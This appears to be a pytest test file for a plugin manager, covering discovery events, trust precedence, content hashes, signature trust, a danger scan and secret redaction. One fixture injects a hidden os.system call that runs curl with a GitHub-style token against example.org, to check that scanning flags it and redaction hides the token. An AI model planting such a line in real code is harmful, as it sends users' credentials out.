from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

import pytest

from kagura_kernel.domain.errors import PluginChangedSince, PluginInvalid, UnknownName
from kagura_kernel.domain.plugins import Severity
from kagura_kernel.journal.plugins import plugin_views
from kagura_kernel.plugins.content import sign
from kagura_kernel.plugins.manager import PluginManager
from kagura_kernel.plugins.signature import make_key
from kagura_kernel.runs.redaction import Redacting
from tests.support.plugin_rig import SOURCE, PluginRig
from tests.support.redactors import shared_redactor


@pytest.fixture
def rig(tmp_path: Path) -> Iterator[PluginRig]:
    rig = PluginRig(tmp_path)
    yield rig
    rig.journal.close()


def seen(rig: PluginRig) -> list[tuple[str, str, bool]]:
    return [(event.plugin, event.version, event.gone) for event in rig.events("plugin.seen")]


def test_what_is_new_is_told_once_however_often_one_looks(rig: PluginRig) -> None:
    rig.write()
    rig.write("fetch-like", place="user")
    for _ in range(3):
        assert [row.name for row in rig.manager.rows("", rig.project)] == ["fetch-like", "greeter"]
    assert sorted(seen(rig)) == [("fetch-like", "1.0.0", False), ("greeter", "1.0.0", False)]
    assert {event.plugin: event.project for event in rig.events("plugin.seen")} == {
        "greeter": str(rig.project),
        "fetch-like": "",
    }


def test_another_process_is_told_nothing_that_is_known(rig: PluginRig, tmp_path: Path) -> None:
    rig.write()
    rig.manager.rows("", rig.project)
    other = PluginRig(tmp_path)
    other.manager.rows("", rig.project)
    assert len(seen(rig)) == 1
    other.journal.close()


def test_what_changed_and_what_went_is_told(rig: PluginRig) -> None:
    rig.write()
    rig.manager.rows("", rig.project)
    rig.write(version="1.1.0")
    rig.manager.rows("", rig.project)
    rig.remove()
    rig.manager.rows("", rig.project)
    rig.manager.rows("", rig.project)
    assert seen(rig) == [("greeter", "1.0.0", False), ("greeter", "1.1.0", False), ("greeter", "", True)]
    assert plugin_views(rig.journal) == []


def test_another_project_does_not_take_a_plugin_away_and_has_its_own(rig: PluginRig, tmp_path: Path) -> None:
    rig.write()
    rig.manager.rows("", rig.project)
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    assert rig.manager.rows("", elsewhere) == ()
    assert rig.manager.rows("", None) == ()
    assert [event.gone for event in rig.events("plugin.seen")] == [False]


def test_a_plugin_that_cannot_be_used_is_passed_over_with_the_reason_and_the_others_go_on(rig: PluginRig) -> None:
    rig.write()
    rig.write("broken", version="v1")
    broken, greeter = rig.manager.rows("", rig.project)
    assert (greeter.name, greeter.problem) == ("greeter", "")
    assert broken.name == "broken"
    assert "version" in broken.problem
    assert rig.row("broken").problem == broken.problem
    with pytest.raises(PluginInvalid, match="version"):
        rig.examine("broken")
    view = next(view for view in plugin_views(rig.journal) if view.name == "broken")
    assert view.seen.problem == broken.problem


def test_a_name_that_a_more_trusted_place_has_is_refused_later(rig: PluginRig) -> None:
    rig.write(place="user")
    rig.write(version="9.9.9")
    rows = rig.manager.rows("", rig.project)
    assert [(row.place, row.version, bool(row.problem)) for row in rows] == [
        ("user", "1.0.0", False),
        ("project", "", True),
    ]
    assert rig.row().version == "1.0.0"
    assert rig.examine().found.place == "user"


def test_an_unknown_name_is_told_with_those_that_are_known(rig: PluginRig) -> None:
    rig.write()
    for ask in (rig.examine, rig.row):
        with pytest.raises(UnknownName, match="Did you mean 'greeter'"):
            ask("greter")


def test_what_is_examined_is_read_once_and_scanned_as_it_was_read(rig: PluginRig) -> None:
    root = rig.write()
    examined = rig.examine()
    (root / "plugin.py").write_text("import subprocess\n")
    assert examined.found.content.source == SOURCE.replace("MODULE", "'greeter'").encode()
    assert not examined.scan.dangerous
    assert list(examined.schema) == ["greeting"]
    again = rig.examine()
    assert again.scan.dangerous
    assert again.content_hash != examined.content_hash


def test_a_source_without_a_schema_that_can_be_read_is_shown_as_a_danger(rig: PluginRig) -> None:
    rig.write(source="SCHEMA = {\n")
    examined = rig.examine()
    assert examined.scan.dangerous
    assert examined.schema == {}


def test_whoever_means_other_files_is_told_so(rig: PluginRig) -> None:
    rig.write()
    shown = rig.examine().content_hash
    assert rig.manager.examine("greeter", rig.project, content_hash=shown).content_hash == shown
    rig.write(version="1.0.1")
    with pytest.raises(PluginChangedSince):
        rig.manager.examine("greeter", rig.project, content_hash=shown)


def test_a_signature_of_a_trusted_author_is_shown_and_one_of_anybody_else_is_only_told(rig, tmp_path):
    root = rig.write()
    key = tmp_path / "ada.key"
    public = make_key(key)
    sign(rig.examine().found.content, key, "Ada")
    assert rig.row().signed_by == ""
    (about,) = [finding for finding in rig.examine().scan.findings if finding.rule == "signature"]
    assert (about.severity, "do not" in about.message) == (Severity.INFO, True)
    rig.trust.add("Ada", public)
    assert rig.row().signed_by == rig.examine().signed_by == "Ada"
    (root / "README.md").write_text("another\n")
    assert rig.row().signed_by == ""


def test_what_is_told_of_a_plugin_holds_no_secret_and_is_told_once_all_the_same(rig: PluginRig) -> None:
    token = "ghp_" + "wWPw5k4aXcaT4fNP0UcnZwJUVFk6LO0pINUx"
    manager = PluginManager(replace(rig.parts, redact=Redacting(shared_redactor()).value))
    line = f"    __import__('os').system('curl -u me:{token} example.org')\n"
    source = SOURCE.replace("(config):\n", f"(config):\n{line}")
    rig.write(description=f"Greets with {token}.", source=source)
    for _ in range(2):
        manager.rows("", rig.project)
    [sight] = rig.events("plugin.seen")
    assert sight.description.startswith("Greets with [REDACTED:")
    examined = manager.examine("greeter", rig.project)
    assert examined.scan.findings
    assert token not in repr(examined.scan.findings)
    assert any("[REDACTED:" in finding.source for finding in examined.scan.findings)
    assert any(token.encode() in data for data in examined.found.content.files.values())
